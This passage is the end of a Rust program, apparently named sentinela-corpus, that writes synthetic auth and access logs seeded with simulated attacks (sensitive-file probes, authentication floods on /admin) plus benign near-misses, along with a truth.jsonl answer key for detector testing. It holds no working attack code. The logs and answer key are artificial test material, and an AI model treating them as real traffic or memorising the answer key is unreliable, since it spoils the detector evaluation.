                    .record(ACCESS, "http.sensitive-file-probe", "source.address", &a, n);
            }
            AuthFlood => {
                let a = self.attacker();
                let n = self.g.rng.range(40, 80);
                let n = self.burst(&a, n, (1_000, 3_000), browser, |r, _| {
                    if r.chance(1, 2) {
                        ("GET", "/admin".to_string(), 401)
                    } else {
                        ("POST", "/admin/login".to_string(), 401)
                    }
                });
                self.g
                    .record(ACCESS, "http.auth-flood", "source.address", &a, n);
            }
            NearMiss401 => {
                // A benign client mistypes the admin password twice, then gets in.
                let i = self.g.rng.below(self.clients.len() as u64) as usize;
                let (a, uai) = self.clients[i].clone();
                let ua = Self::ua(uai % BROWSERS.len());
                self.burst(&a, 3, (3_000, 9_000), ua, |_, i| {
                    if i < 2 {
                        ("GET", "/admin".to_string(), 401)
                    } else {
                        ("GET", "/admin".to_string(), 200)
                    }
                });
            }
        }
    }
}

// ---------------------------------------------------------------------------------------------
// main

struct Args {
    out: PathBuf,
    seed: u64,
    size_mb: f64,
    start: i64,
}

const USAGE: &str =
    "usage: sentinela-corpus --out DIR [--seed N (42)] [--size-mb N (100, per log)] \
[--start 2026-03-01T00:00:00Z]";

fn parse_args() -> Result<Args, String> {
    let mut out = None;
    let mut seed = 42u64;
    let mut size_mb = 100.0f64;
    let mut start = parse_start("2026-03-01T00:00:00Z").unwrap();
    let mut it = std::env::args().skip(1);
    while let Some(a) = it.next() {
        let (key, inline) = match a.split_once('=') {
            Some((k, v)) if k.starts_with("--") => (k.to_string(), Some(v.to_string())),
            _ => (a.clone(), None),
        };
        if key == "-h" || key == "--help" {
            println!("{USAGE}");
            std::process::exit(0);
        }
        let mut val = || {
            inline
                .clone()
                .or_else(|| it.next())
                .ok_or_else(|| format!("{key} needs a value\n{USAGE}"))
        };
        match key.as_str() {
            "--out" => out = Some(PathBuf::from(val()?)),
            "--seed" => seed = val()?.parse().map_err(|e| format!("--seed: {e}"))?,
            "--size-mb" => {
                size_mb = val()?.parse().map_err(|e| format!("--size-mb: {e}"))?;
                if !(size_mb > 0.0 && size_mb < 1e6) {
                    return Err("--size-mb must be positive".into());
                }
            }
            "--start" => {
                let v = val()?;
                start = parse_start(&v)
                    .ok_or_else(|| format!("--start: expected YYYY-MM-DDTHH:MM:SSZ, got {v}"))?;
            }
            _ => return Err(format!("unknown argument {a}\n{USAGE}")),
        }
    }
    let out = out.ok_or_else(|| format!("--out is required\n{USAGE}"))?;
    Ok(Args {
        out,
        seed,
        size_mb,
        start,
    })
}

fn write_truth(dir: &Path, auth: &Gen, access: &Gen) -> std::io::Result<()> {
    let mut s = String::new();
    for t in auth.truth.iter().chain(&access.truth) {
        s.push_str("{\"file\": ");
        json_str(&mut s, t.file);
        s.push_str(", \"detector\": ");
        json_str(&mut s, t.detector);
        s.push_str(", \"fields\": {");
        json_str(&mut s, t.field);
        s.push_str(": ");
        json_str(&mut s, &t.value);
        s.push_str(&format!("}}, \"count\": {}}}\n", t.count));
    }
    std::fs::write(dir.join("truth.jsonl"), s)?;
    let mut benign: BTreeSet<&str> = BTreeSet::new();
    benign.extend(auth.benign.iter().map(String::as_str));
    benign.extend(access.benign.iter().map(String::as_str));
    benign.insert(FORGED);
    let mut s = String::new();
    for a in benign {
        s.push_str(a);
        s.push('\n');
    }
    std::fs::write(dir.join("benign-sources.txt"), s)
}

fn main() {
    let args = match parse_args() {
        Ok(a) => a,
        Err(e) => {
            eprintln!("sentinela-corpus: {e}");
            std::process::exit(2);
        }
    };
    if let Err(e) = run(&args) {
        eprintln!("sentinela-corpus: {e}");
        std::process::exit(1);
    }
}

fn run(args: &Args) -> std::io::Result<()> {
    std::fs::create_dir_all(&args.out)?;
    let target = (args.size_mb * MIB) as u64;
    let started = Instant::now();
    let auth = Gen::new(args.seed ^ 0xA0A0, &args.out.join(AUTH), args.start, target)?;
    let access = Gen::new(
        args.seed ^ 0xC0C0,
        &args.out.join(ACCESS),
        args.start,
        target,
    )?;
    let (auth, access) = std::thread::scope(|s| {
        let h = s.spawn(|| Access::new(access).run());
        let auth = Auth::new(auth).run();
        (auth, h.join().expect("access.log generator panicked"))
    });
    let (auth, access) = (auth?, access?);
    write_truth(&args.out, &auth, &access)?;
    let secs = started.elapsed().as_secs_f64();
    let bytes = auth.out.flushed + access.out.flushed;
    eprintln!(
        "sentinela-corpus: {}: auth.log {} lines {:.1} MiB, access.log {} lines {:.1} MiB, {} truth entries, {:.2}s ({:.0} MiB/s)",
        args.out.display(),
        auth.out.lines,
        auth.out.flushed as f64 / MIB,
        access.out.lines,
        access.out.flushed as f64 / MIB,
        auth.truth.len() + access.truth.len(),
        secs,
        bytes as f64 / MIB / secs.max(1e-9)
    );
    Ok(())
}
